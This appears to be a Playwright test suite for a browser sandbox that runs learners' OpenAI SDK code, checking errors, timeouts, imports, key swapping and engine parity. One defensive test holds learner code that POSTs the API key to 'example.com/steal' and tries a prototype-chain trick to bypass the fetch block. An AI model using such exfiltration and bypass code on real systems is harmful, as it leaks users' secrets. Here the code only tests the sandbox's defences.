/**
 * The worker engine in real Chromium, driven directly through a bare test page (esbuild bundles
 * the page and the worker; Playwright serves them on a fake origin). The Sandbox component's own
 * specs cover the UI; this one covers what the engine does with the learner's code.
 */
import { expect, test, type Page } from '@playwright/test';
const { describe } = test;
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import { buildSnapshot } from '../../scripts/build-webcontainer-snapshot.ts';
import { standInFor } from '../../sandbox/keys/broker.ts';
import { createWebContainerEngine } from '../../sandbox/engines/webcontainer/index.ts';
import {
	createPracticeApi,
	scenarioKey,
	PRACTICE_BASE_URL,
} from '../../sandbox/practice-api/index.ts';
import { scenarioIds } from '../../sandbox/scenarios/index.ts';
import { getTemplate, templateIds } from '../../sandbox/templates/index.ts';
import { localWebContainer } from '../unit/engines/webcontainer/local-webcontainer.ts';
import { runScenario, runTemplate, type ParityReport } from './engines-harness/parity.ts';
import type { SandboxFile } from '../../sandbox/engines/types.ts';
import type { RunReport } from './engines-harness/page.ts';
import type { WebContainerReport } from './engines-harness/webcontainer-page.ts';

// localhost counts as a secure context, which cross-origin isolation needs; every request to it is
// answered by the route below, so nothing listens on this port.
const ORIGIN = 'http://localhost:47913';
let bundles: { page: string; worker: string; webcontainer: string; snapshot: string };

test.beforeAll(async () => {
	const bundle = async (entry: string, format: 'esm' | 'iife' = 'esm') => {
		const result = await build({
			entryPoints: [new URL(entry, import.meta.url).pathname],
			bundle: true,
			format,
			platform: 'browser',
			write: false,
			minify: true,
			logLevel: 'silent',
			// Vite's own import of the built worker; the harness names its script instead.
			external: ['*?worker&url'],
		});
		return result.outputFiles[0].text;
	};
	bundles = {
		page: await bundle('./engines-harness/page.ts'),
		// One classic script, as the site's build emits it: the sandboxed frame starts it so.
		worker: await bundle('../../sandbox/engines/worker/worker-main.ts', 'iife'),
		webcontainer: await bundle('./engines-harness/webcontainer-page.ts'),
		snapshot: JSON.stringify(
			await buildSnapshot(fileURLToPath(new URL('../../', import.meta.url))),
		),
	};
});

// Every response carries the isolation headers the site sends: an isolated page may only start
// a worker whose script also says COEP.
const isolation = {
	'cross-origin-opener-policy': 'same-origin',
	'cross-origin-embedder-policy': 'credentialless',
};
const html = (script: string) =>
	`<!doctype html><title>engines</title><body><script type="module" src="${script}"></script>`;

async function open(page: Page): Promise<void> {
	await page.route(`${ORIGIN}/**`, async (route) => {
		const path = new URL(route.request().url()).pathname;
		const files: Record<string, [string, string]> = {
			'/page.js': ['text/javascript', bundles.page],
			'/worker.js': ['text/javascript', bundles.worker],
			'/webcontainer.js': ['text/javascript', bundles.webcontainer],
			'/snapshot.json': ['application/json', bundles.snapshot],
			'/webcontainer.html': ['text/html', html('/webcontainer.js')],
		};
		const [contentType, body] = files[path] ?? ['text/html', html('/page.js')];
		return route.fulfill({ contentType, body, headers: isolation });
	});
	await page.goto(`${ORIGIN}/`);
	await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
}

function run(
	page: Page,
	files: SandboxFile[],
	env: Record<string, string> = {},
	timeoutMs?: number,
	liveKey?: string,
): Promise<RunReport> {
	return page.evaluate(
		([f, e, t, k]) =>
			(
				window as unknown as { harness: { run: (...a: unknown[]) => Promise<RunReport> } }
			).harness.run(f, e, t, k),
		[files, env, timeoutMs, liveKey] as const,
	);
}

const practiceEnv = () => ({
	OPENAI_API_KEY: scenarioKey('valid'),
	OPENAI_BASE_URL: PRACTICE_BASE_URL,
});
const project = (index: string, more: SandboxFile[] = []): SandboxFile[] => [
	{ path: 'index.js', contents: index },
	...more,
];
const template = (id: string) => getTemplate(id).files.map((file) => ({ ...file }));

test.beforeEach(async ({ page }) => open(page));

test('runs a lesson sample against the practice API and prints the reply', async ({ page }) => {
	const report = await run(page, template('first-request'), practiceEnv());
	expect(report.stderr).toBe('');
	expect(report.result).toMatchObject({ exitCode: 0, reason: 'exit' });
	expect(report.stdout).toMatch(/\S.*\nTokens used: \d+\n$/);
});

test('streams a reply as deltas, one line per event', async ({ page }) => {
	const report = await run(page, template('stream-response'), practiceEnv());
	expect(report.stderr).toBe('');
	expect(report.stdout.match(/^piece: /gm)?.length ?? 0).toBeGreaterThan(2);
	// The deltas arrived over time, not in one piece at the end (output is batched per 16 ms).
	const pieces = report.chunks.filter((chunk) => chunk.text.includes('piece:'));
	expect(pieces.length).toBeGreaterThan(1);
	expect(report.stdout).toMatch(/Done\. Tokens used: \d+\n$/);
});

test('shows a syntax error with its file, line and column', async ({ page }) => {
	const report = await run(page, project("const a = 1;\nconst = 5;\nconsole.log('never');\n"));
	expect(report.result).toMatchObject({ exitCode: 1, reason: 'error' });
	expect(report.stdout).toBe('');
	expect(report.stderr).toContain('/project/index.js:2\nconst = 5;\n      ^\n');
	expect(report.stderr).toContain("SyntaxError: Unexpected token '='");
});

test('a thrown error prints its stack with file names and exits 1', async ({ page }) => {
	const report = await run(
		page,
		project("console.log('before');\nfunction fail() { throw new Error('boom'); }\nfail();\n"),
	);
	expect(report.result).toMatchObject({ exitCode: 1, reason: 'error' });
	expect(report.stdout).toBe('before\n');
	expect(report.stderr).toMatch(
		/^Error: boom\n {4}at fail \(file:\/\/\/project\/index\.js:2:\d+\)/,
	);
	expect(report.stderr).not.toMatch(/blob:|worker\.js/);
});

test('an SDK error prints as Node prints it, with its properties', async ({ page }) => {
	const badKey = 'sk-proj-' + 'PRACTICE' + 'x'.repeat(40);
	const report = await run(page, template('first-request'), {
		OPENAI_API_KEY: badKey,
		OPENAI_BASE_URL: PRACTICE_BASE_URL,
	});
	expect(report.result.exitCode).toBe(1);
	expect(report.stderr).toMatch(/^AuthenticationError: 401 Incorrect API key provided: sk-proj-/);
	expect(report.stderr).toContain('status: 401');
	expect(report.stderr).toMatch(/requestID: 'req_/);
	expect(report.stderr).toContain("code: 'invalid_api_key'");
});

test('Stop ends an infinite loop', async ({ page }) => {
	const running = run(page, project("console.log('looping');\nwhile (true) {}\n"));
	await expect(page.locator('body')).toHaveAttribute('data-output', '1');
	await page.evaluate(() => (window as unknown as { harness: { stop(): void } }).harness.stop());
	const report = await running;
	expect(report.result).toMatchObject({ exitCode: 130, reason: 'stopped' });
	// The next run gets a fresh worker and works.
	expect((await run(page, project("console.log('again')"))).stdout).toBe('again\n');
});

test('the time limit ends runaway code', async ({ page }) => {
	const report = await run(page, project('while (true) {}\n'), {}, 1_000);
	expect(report.result).toMatchObject({ exitCode: 124, reason: 'timeout' });
	expect(report.result.durationMs).toBeGreaterThanOrEqual(1_000);
});

test('a printing loop is batched, so the time limit still ends it promptly', async ({ page }) => {
	const report = await run(
		page,
		project("let i = 0;\nwhile (true) console.log('line', i++);\n"),
		{},
		1_000,
	);
	expect(report.result).toMatchObject({ exitCode: 124, reason: 'timeout' });
	expect(report.result.durationMs).toBeLessThan(5_000);
	expect(report.stdout.startsWith('line 0\nline 1\n')).toBe(true);
	// Far fewer messages than lines: one per 16 ms or 64 kB.
	expect(report.chunks.length).toBeLessThan(report.stdout.split('\n').length / 10);
});

test("'dotenv/config' loads .env without overriding the run env", async ({ page }) => {
	const files = project("import 'dotenv/config';\nconsole.log(process.env.A, process.env.B);\n", [
		{ path: '.env', contents: 'A=file\nB=file\n' },
	]);
	expect((await run(page, files, { A: 'run' })).stdout).toBe('run file\n');
});

test('node: built-ins fail with a message that names what is supported', async ({ page }) => {
	const report = await run(page, project("import fs from 'node:fs';\nconsole.log(fs);\n"));
	expect(report.result.exitCode).toBe(1);
	expect(report.stderr).toContain("The worker engine cannot load 'node:fs' (index.js:1:16)");
	expect(report.stdout).toBe('');
	expect(report.stderr).toContain("'openai'");
});

test('fetch to any host but the practice API and api.openai.com is refused', async ({ page }) => {
	let leaked = false;
	await page.context().route('https://example.com/**', (route) => {
		leaked = true;
		return route.abort();
	});
	const report = await run(
		page,
		project(
			"await fetch('https://example.com/steal', { method: 'POST', body: process.env.OPENAI_API_KEY });\n",
		),
		practiceEnv(),
	);
	expect(report.result.exitCode).toBe(1);
	expect(report.stderr).toContain(
		'TypeError: fetch failed: the sandbox refused a request to https://example.com',
	);
	expect(report.stderr).toContain('api.openai.com');
	const sneaky = await run(
		page,
		project(
			"await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, 'https://example.com/x');\n",
		),
	);
	expect(sneaky.stderr).toContain('the sandbox refused a request to https://example.com');
	expect(leaked).toBe(false);
});

test('live requests go to api.openai.com through the page, which swaps the real key in', async ({
	page,
}) => {
	let auth = '';
	await page.context().route('https://api.openai.com/**', async (route) => {
		if (route.request().method() === 'OPTIONS') {
			return route.fulfill({
				status: 204,
				headers: {
					'access-control-allow-origin': '*',
					'access-control-allow-headers': '*',
					'access-control-allow-methods': '*',
				},
			});
		}
		auth = (await route.request().allHeaders()).authorization ?? '';
		return route.fulfill({
			status: 200,
			headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' },
			body: JSON.stringify({
				object: 'list',
				data: [{ id: 'gpt-live', object: 'model', created: 0, owned_by: 'openai' }],
			}),
		});
	});
	const code =
		"import OpenAI from 'openai';\nconst models = await new OpenAI().models.list();\nconsole.log(models.data.map((m) => m.id), process.env.OPENAI_API_KEY);\n";
	const key = 'sk-live-test-key-0123456789-abcd';
	const report = await run(page, project(code), {}, undefined, key);
	expect(report.stderr).toBe('');
	expect(report.stdout).toBe(`[ 'gpt-live' ] ${standInFor(key)}\n`);
	expect(auth).toBe(`Bearer ${key}`);
});

test('relative imports, .env values and process work like Node', async ({ page }) => {
	const files = project(
		[
			"import { greet } from './lib/greet.js';",
			"import process, { argv } from 'node:process';",
			'console.log(greet(process.env.NAME), process.env.FROM_FILE);',
			"console.error('to stderr');",
			"process.stdout.write('no newline');",
			'console.log(argv.length, { nested: { deep: [1, 2] } });',
			'process.exitCode = 3;',
		].join('\n'),
		[
			{
				path: 'lib/greet.js',
				contents:
					"import { suffix } from './suffix.js';\nexport const greet = (name) => `Hello, ${name}${suffix}`;\n",
			},
			{ path: 'lib/suffix.js', contents: "export const suffix = '!';\n" },
			{ path: '.env', contents: 'NAME=from-file\nFROM_FILE="only in .env"\n' },
			{
				path: 'package.json',
				contents: JSON.stringify({
					type: 'module',
					scripts: { start: 'node --env-file=.env index.js' },
				}),
			},
		],
	);
	const report = await run(page, files, { NAME: 'Ada' });
	expect(report.stdout).toBe(
		'Hello, Ada! only in .env\nno newline2 { nested: { deep: [ 1, 2 ] } }\n',
	);
	expect(report.stderr).toBe('to stderr\n');
	expect(report.result).toMatchObject({ exitCode: 3, reason: 'exit' });
});

test('circular imports are reported, not hung on', async ({ page }) => {
	const files = project("import './a.js';\n", [
		{ path: 'a.js', contents: "import './b.js';\n" },
		{ path: 'b.js', contents: "import './a.js';\n" },
	]);
	const report = await run(page, files);
	expect(report.result.exitCode).toBe(1);
	expect(report.stderr).toContain('Circular import: a.js → b.js → a.js');
});

test('runs are isolated, process.exit stops at once, and warm runs start fast', async ({
	page,
}) => {
	await page.evaluate(() =>
		(window as unknown as { harness: { boot(): Promise<void> } }).harness.boot(),
	);
	const first = await run(
		page,
		project(
			"globalThis.leak = 1;\nconsole.log('one');\nprocess.exit(0);\nconsole.log('after exit');\n",
		),
	);
	expect(first.stdout).toBe('one\n');
	expect(first.result).toMatchObject({ exitCode: 0, reason: 'exit' });
	// boot() resolves once the worker warmed up after the last run is ready.
	await page.evaluate(() =>
		(window as unknown as { harness: { boot(): Promise<void> } }).harness.boot(),
	);
	const second = await run(page, project('console.log(typeof globalThis.leak);\n'));
	expect(second.stdout).toBe('undefined\n');
	// The aim is < 150 ms (typically ~20 ms here); the margin absorbs a loaded 2-core machine.
	expect(second.firstOutputMs).toBeLessThan(300);
});

describe('the WebContainer engine in Chromium', () => {
	const bootAndRun = (
		page: Page,
		timeoutMs: number,
		files: SandboxFile[],
		env: Record<string, string>,
		apiKey?: string,
	) =>
		page.evaluate(
			([t, f, e, k]) =>
				(
					window as unknown as {
						wc: { bootAndRun: (...a: unknown[]) => Promise<WebContainerReport> };
					}
				).wc.bootAndRun(t, f, e, k),
			[timeoutMs, files, env, apiKey] as const,
		);

	test("the StackBlitz iframe carries the page's COEP and the API key as client_id", async ({
		page,
	}) => {
		// Offline and routed: record the iframe's URL, answer nothing useful, let the boot time out.
		const frames: URL[] = [];
		await page.route('https://stackblitz.com/**', (route) => {
			const url = new URL(route.request().url());
			if (url.pathname.startsWith('/headless') && route.request().method() === 'GET')
				frames.push(url);
			return route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html>' });
		});
		await page.goto(`${ORIGIN}/webcontainer.html`);
		await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
		const report = await bootAndRun(page, 1_500, project("console.log('ok')"), {}, 'wc_test_key_1');
		expect(report.kind).toBe('worker');
		expect(frames).toHaveLength(1);
		expect(frames[0].origin).toBe('https://stackblitz.com');
		expect(frames[0].searchParams.get('coep')).toBe('credentialless');
		expect(frames[0].searchParams.get('client_id')).toBe('wc_test_key_1');
	});

	test("offline, the real client's boot is cut short and the worker takes over with a note", async ({
		page,
	}) => {
		test.skip(
			Boolean(process.env.KEYLAB_REAL_WEBCONTAINER),
			'StackBlitz is reachable: the boot would succeed',
		);
		await page.goto(`${ORIGIN}/webcontainer.html`);
		await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
		expect(
			await page.evaluate(() => (window as unknown as { wc: { isolated: boolean } }).wc.isolated),
		).toBe(true);
		const report = await bootAndRun(page, 3_000, project("console.log('still runs')"), {});
		expect(report.kind).toBe('worker');
		// The reachability check fails at once offline; the boot timeout (3 s here) is the backstop.
		expect(report.note).toMatch(
			/could not start: (StackBlitz, which serves WebContainers, cannot be reached\.|Booting the WebContainer did not finish within 3 s\.)/,
		);
		expect(report.progress.map((p) => p.text)).toContain('Booting Node.js in the browser');
		expect(report.stdout).toBe('still runs\n');
	});

	test('boots the real WebContainer and runs a sample in Node 22 (opt-in)', async ({ page }) => {
		test.skip(
			!process.env.KEYLAB_REAL_WEBCONTAINER,
			"needs StackBlitz's servers; no internet here (set KEYLAB_REAL_WEBCONTAINER=1 to run it)",
		);
		test.setTimeout(180_000);
		await page.goto(`${ORIGIN}/webcontainer.html`);
		await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
		const report = await bootAndRun(page, 120_000, template('first-request'), practiceEnv());
		expect(report.note).toBeUndefined();
		expect(report.kind).toBe('webcontainer');
		expect(report.stderr).toBe('');
		expect(report.stdout).toMatch(/\S.*\nTokens used: \d+\n$/);
		expect(report.exitCode).toBe(0);
	});
});

describe('same results on both engines', () => {
	// The WebContainer side runs in this Node process: the engine with the fake container (real
	// Node child processes behind the real client's terminal quirks) and its own practice API.
	const local = localWebContainer();
	// A fresh practice API for each test, as the worker side gets with its fresh page: tests of
	// this file may run in any order and worker process, and keys or usage must not carry over.
	let api = createPracticeApi();
	test.beforeEach(() => {
		api = createPracticeApi();
	});
	const webcontainer = createWebContainerEngine({
		practiceFetch: (request) => api.fetch(request),
		loadWebContainer: local.load,
		loadSnapshot: () =>
			Promise.resolve({
				'package.json': { file: { contents: '{"private":true,"type":"module"}' } },
				node_modules: {
					file: { symlink: fileURLToPath(new URL('../../node_modules', import.meta.url)) },
				},
			}),
		bridgeEnv: { KEYLAB_BRIDGE_PORT: '0' },
	});
	test.afterAll(() => {
		webcontainer.dispose();
		local.cleanup();
	});

	const onWorker = (page: Page, kind: string, id: string, variant: string, headers = false) =>
		page.evaluate(
			([k, i, v, h]) =>
				(
					window as unknown as {
						harness: { parity: (...a: unknown[]) => Promise<ParityReport> };
					}
				).harness.parity(k, i, v, h),
			[kind, id, variant, headers] as const,
		);

	test("an SDK error's headers print the same on both engines (known difference)", async ({
		page,
	}) => {
		// Found by this comparison: an SDK error's `headers` print as `Headers {}` in the Node child
		// behind the fake WebContainer, while the worker lists them (plain Node 22 lists them too,
		// so the container path loses them somewhere). Not explained yet; this fails until the two
		// agree, and will say so (an unexpected pass) once they do.
		test.fail(true, 'an SDK error’s headers print differently on the two engines');
		const worker = await onWorker(page, 'scenario', 'pasted-key', 'starter', true);
		const node = await runScenario(webcontainer, api, 'pasted-key', 'starter', { headers: true });
		expect(worker).toEqual(node);
	});

	test('every lesson sample prints the same lines and exits the same way', async ({ page }) => {
		test.setTimeout(120_000);
		for (const id of templateIds) {
			const [worker, node] = await Promise.all([
				onWorker(page, 'template', id, 'starter'),
				runTemplate(webcontainer, id),
			]);
			expect(worker, id).toEqual(node);
			expect(node.exit, id).toBe('exit 0 (exit)');
		}
	});

	test('every scenario gives the same output, exit and verdict, starter and solution', async ({
		page,
	}) => {
		test.setTimeout(300_000);
		for (const id of scenarioIds) {
			// Each scenario on a fresh practice API on both sides: an earlier scenario's traffic (its
			// retries depend on timing) must not show up in this one's usage report.
			await page.evaluate(() =>
				(window as unknown as { harness: { resetPractice(): void } }).harness.resetPractice(),
			);
			api = createPracticeApi();
			for (const variant of ['starter', 'solution'] as const) {
				const worker = await onWorker(page, 'scenario', id, variant);
				const node = await runScenario(webcontainer, api, id, variant);
				expect(worker, `${id} ${variant}`).toEqual(node);
				expect(node.verdict?.pass, `${id} ${variant}`).toBe(variant === 'solution');
			}
		}
	});
});
